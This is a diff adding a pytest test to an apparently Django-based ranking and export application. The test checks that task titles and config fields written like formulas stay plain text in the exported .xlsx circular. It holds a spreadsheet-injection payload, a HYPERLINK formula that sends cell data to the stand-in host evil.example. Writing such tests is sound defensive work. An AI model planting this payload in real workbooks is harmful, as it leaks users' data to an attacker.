@@ -180,6 +180,34 @@ def test_exports_are_scoped(october: RankingRun, cast: Cast, client: Client, med
     assert client.get(urls[1])["Location"].startswith("/accounts/login/")
 
 
+@pytest.mark.django_db(transaction=True)
+def test_titles_and_the_issuing_body_stay_text_in_the_workbook(
+    cast: Cast, client: Client, media: Path
+) -> None:
+    """A task titled like a formula never becomes a live formula in the circular's .xlsx."""
+    trap = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    RankingConfig.objects.create(county_id=COUNTY, issuing_body="=1+1", number_prefix="=2+2")
+    make_task(TOWN_A, day(10, 20), title=trap, lead_unit=cast.unit, light="red")
+    make_task(TOWN_C, day(10, 12), day(10, 12))
+    client.force_login(cast.alice)
+    with clock.frozen_at(NOV_23):
+        run = compute_ranking(
+            county_or_town=Division.objects.get(code=COUNTY),
+            period_kind="month",
+            period_start=OCT,
+            actor=cast.alice,
+        )
+        client.post(f"/rankings/runs/{run.pk}/circular/")
+        run_worker()
+    job = ExportJob.objects.get()
+    assert job.state == JobState.DONE, job.error
+    book = load_workbook(io.BytesIO(body(client.get(f"/rankings/exports/{job.pk}/xlsx/"))))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert book["逾期任务"]["B2"].value == trap and book["红灯任务"]["B2"].value == trap
+    assert "=1+1" in [cell.value for cell in book.worksheets[0]["A"]]
+
+
 def test_the_renderers_need_no_database() -> None:
     circular = Circular(
         issuing_body="某办",
